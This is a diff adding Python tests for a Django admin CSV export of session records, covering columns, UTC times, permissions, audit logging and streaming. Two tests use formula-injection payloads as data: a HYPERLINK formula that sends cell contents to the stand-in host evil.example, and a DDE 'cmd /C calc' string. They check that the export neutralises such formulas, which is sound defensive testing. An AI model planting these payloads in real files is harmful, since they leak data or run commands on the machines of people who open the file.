@@ -1,0 +1,230 @@
+"""The export of records as comma-separated values."""
+
+from __future__ import annotations
+
+import csv
+import io
+import logging
+import tracemalloc
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import pytest
+from asgiref.sync import sync_to_async
+from django.contrib.auth.models import Permission, User
+from django.test import AsyncClient, Client
+from msgspec import to_builtins
+
+from idlewatch.admin import export
+from idlewatch.core.clock import as_datetime
+from idlewatch.models import WatchedSession
+from tests.conftest import START
+from tests.support.watches import POLICY, sign_in_many
+
+pytestmark = pytest.mark.django_db(transaction=True)
+
+EXPORT = "/admin/idlewatch/watchedsession/export/"
+CHROME = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
+)
+
+
+def operator(*permissions: str, client: Any = Client) -> Any:
+    user = User.objects.create_user("op", password="pw", is_staff=True)
+    user.user_permissions.set(Permission.objects.filter(codename__in=permissions))
+    client = client()
+    client.force_login(user)
+    # Its own session would be exported too.
+    WatchedSession.objects.all().delete()
+    return client
+
+
+@pytest.fixture
+def auditor(clock: Any) -> Client:
+    return operator("view_watchedsession")
+
+
+def record(watch: str, at: datetime = datetime(2026, 3, 29, 1, 30, tzinfo=UTC), **fields: Any) -> WatchedSession:
+    """Keep a record; the clocks of Central Europe are put forward half an hour before."""
+    given = {"username": "ann", "started": at, "signed_in": at, "last_active": at, "limits": to_builtins(POLICY)}
+    return WatchedSession.objects.create(id=watch, **(given | fields))
+
+
+def rows(response: Any) -> list[dict[str, str]]:
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(response.getvalue().decode(), newline="")))
+
+
+def exported(client: Client, query: str = "") -> list[dict[str, str]]:
+    return rows(client.get(f"{EXPORT}{query}"))
+
+
+def test_holds_what_is_known_of_a_session(auditor: Client):
+    at = datetime(2026, 3, 29, 1, 30, tzinfo=UTC)
+    fields = {"address": "10.0.0.1", "user_agent": CHROME, "warnings": 2, "extensions": 1, "held_seconds": 12.5}
+    record("w1", at, ended=at + timedelta(minutes=5), reason="revoked", ended_by_name="op", **fields)
+    assert exported(auditor) == [
+        {
+            "session": "w1",
+            "user": "ann",
+            "device": "Chrome 131 on Windows",
+            "user_agent": CHROME,
+            "address": "10.0.0.1",
+            "started": "2026-03-29T01:30:00.000Z",
+            "signed_in": "2026-03-29T01:30:00.000Z",
+            "last_active": "2026-03-29T01:30:00.000Z",
+            "ended": "2026-03-29T01:35:00.000Z",
+            "reason": "revoked",
+            "ended_by": "op",
+            "warnings": "2",
+            "extensions": "1",
+            "held_seconds": "12.5",
+        }
+    ]
+
+
+def test_times_are_in_utc_wherever_the_site_is(auditor: Client, settings: Any):
+    settings.TIME_ZONE = "Europe/Berlin"
+    record("w1")
+    assert exported(auditor)[0]["started"] == "2026-03-29T01:30:00.000Z"
+    assert exported(auditor)[0]["ended"] == ""
+
+
+def test_no_records_are_a_header_alone(auditor: Client):
+    assert auditor.get(EXPORT).getvalue().decode() == ",".join(export.COLUMNS) + "\r\n"
+
+
+def test_is_a_file_named_by_the_day(auditor: Client):
+    response = auditor.get(EXPORT)
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    day = f"{datetime.now(UTC):%Y-%m-%d}"
+    assert response.headers["Content-Disposition"] == f'attachment; filename="sessions-{day}.csv"'
+
+
+def test_holds_what_the_list_shows_and_all_pages_of_it(auditor: Client):
+    for number in range(60):
+        record(f"a{number:02}", username="ann")
+    record("b1", username="bob", reason="idle", ended=as_datetime(START))
+    assert len(exported(auditor, "?p=99")) == 61
+    assert [row["session"] for row in exported(auditor, "?q=bob")] == ["b1"]
+    assert [row["session"] for row in exported(auditor, "?state=ended&reason__exact=idle")] == ["b1"]
+    assert exported(auditor, "?q=bob&state=live") == []
+    assert [row["session"] for row in exported(auditor, "?o=0.-3")][-1] == "b1"
+
+
+def test_filter_that_cannot_be_used_leads_back_to_the_list(auditor: Client):
+    response = auditor.get(f"{EXPORT}?nonsense=1")
+    assert (response.status_code, response.url) == (302, "/admin/idlewatch/watchedsession/?e=1")
+
+
+@pytest.mark.rule("R14")
+@pytest.mark.parametrize("permissions", [(), ("end_watchedsession",)])
+def test_who_may_not_view_may_not_export(clock: Any, permissions: tuple[str, ...]):
+    assert operator(*permissions).get(EXPORT).status_code == 403
+
+
+@pytest.mark.rule("R14")
+def test_who_is_no_operator_is_sent_to_the_login_page():
+    assert Client().get(EXPORT).url.startswith("/admin/login/")
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
+def test_no_cell_is_a_formula(auditor: Client, monkeypatch: pytest.MonkeyPatch, first: str):
+    # What a user agent calls itself is part of the name of a device.
+    monkeypatch.setattr(export, "device_of", str)
+    evil = f'{first}HYPERLINK("http://evil.example/?"&A1,"x")'
+    texts = {"username": evil, "user_agent": evil, "address": evil[:64], "ended_by_name": evil}
+    record(evil[:32], reason="revoked", ended=as_datetime(START), **texts)
+    (row,) = exported(auditor)
+    assert {name: text for name, text in row.items() if "HYPERLINK" in text} == {
+        "session": f"'{evil[:32]}",
+        "user": f"'{evil}",
+        "device": f"'{evil}",
+        "user_agent": f"'{evil}",
+        "address": f"'{evil[:64]}",
+        "ended_by": f"'{evil}",
+    }
+
+
+@pytest.mark.parametrize("divider", [";", "; ", "\t", "|", "\n", "\r\n"])
+def test_no_part_of_a_cell_is_a_formula_where_something_else_divides_cells(auditor: Client, divider: str):
+    """In much of Europe a spreadsheet divides cells at semicolons, and lines within those that are not quoted whole."""
+    record("w1", user_agent=f"Mozilla/5.0 (X11{divider}=cmd|' /C calc'!A0; rv:1-2)")
+    text = auditor.get(EXPORT).getvalue().decode()
+    delimiter = divider[0] if divider.strip("\r\n") else ";"
+    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
+    assert not [cell for cell in cells if cell.lstrip().startswith("=")]
+    assert exported(auditor)[0]["user_agent"].replace("'=", "=").endswith("; rv:1-2)")
+
+
+def test_a_usual_user_agent_stays_as_it_is(auditor: Client):
+    record("w1", user_agent=CHROME)
+    assert exported(auditor)[0]["user_agent"] == CHROME
+
+
+def test_id_of_a_session_is_no_formula(auditor: Client):
+    record("-w1")
+    assert exported(auditor)[0]["session"] == "'-w1"
+
+
+def test_quotes_lines_and_letters_of_every_kind_survive(auditor: Client):
+    record("w1", username='Zoë "Zo", 張\nbob')
+    assert exported(auditor)[0]["user"] == 'Zoë "Zo", 張\nbob'
+
+
+@pytest.mark.rule("R23")
+def test_holds_neither_a_key_nor_a_digest(auditor: Client):
+    (watched,) = sign_in_many(1)
+    told = auditor.get(EXPORT).getvalue().decode()
+    kept = WatchedSession.objects.get(pk=watched.id)
+    assert watched.id in told
+    # The tests' ids are made of keys.
+    told = told.replace(watched.id, "")
+    assert not [each for each in (watched.key, kept.session_digest, kept.auth_digest) if each in told]
+
+
+def test_is_logged(auditor: Client, caplog: pytest.LogCaptureFixture):
+    op = User.objects.get(username="op")
+    with caplog.at_level(logging.INFO, logger="idlewatch"):
+        auditor.get(f"{EXPORT}?q=ann%0Aforged")
+    (line,) = [entry.getMessage() for entry in caplog.records if "records_exported" in entry.getMessage()]
+    assert line == f'records_exported user={op.pk} query="q=ann%0Aforged"'
+
+
+async def test_is_streamed_under_asgi(clock: Any):
+    auditor = await sync_to_async(operator)("view_watchedsession", client=AsyncClient)
+    for number in range(3):
+        await sync_to_async(record)(f"w{number}")
+    response = await auditor.get(EXPORT)
+    assert response.is_async
+    told = b"".join([part async for part in response.streaming_content]).decode()
+    assert len(told.splitlines()) == 4
+
+
+def test_memory_does_not_grow_with_the_records(monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.setattr(export, "BATCH", 50)
+    at = as_datetime(START)
+    given = {"username": "ann", "started": at, "signed_in": at, "last_active": at, "limits": to_builtins(POLICY)}
+    WatchedSession.objects.bulk_create([WatchedSession(id=f"w{number}", **given) for number in range(4000)], 500)
+    listed = WatchedSession.objects.order_by("pk")
+
+    def peak(count: int) -> int:
+        tracemalloc.start()
+        told = sum(len(part.splitlines()) for part in export.chunks(listed[:count]))
+        most = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+        assert told == count + 1
+        return most
+
+    peak(100)
+    assert peak(4000) < 2 * peak(200)
+
+
+async def test_each_part_is_a_batch(monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.setattr(export, "BATCH", 2)
+    for number in range(5):
+        await sync_to_async(record)(f"w{number}")
+    listed = WatchedSession.objects.order_by("pk")
+    parts = [part async for part in export.achunks(listed)]
+    assert [len(part.splitlines()) for part in parts] == [1, 2, 2, 1]
+    assert parts == await sync_to_async(list)(export.chunks(listed))
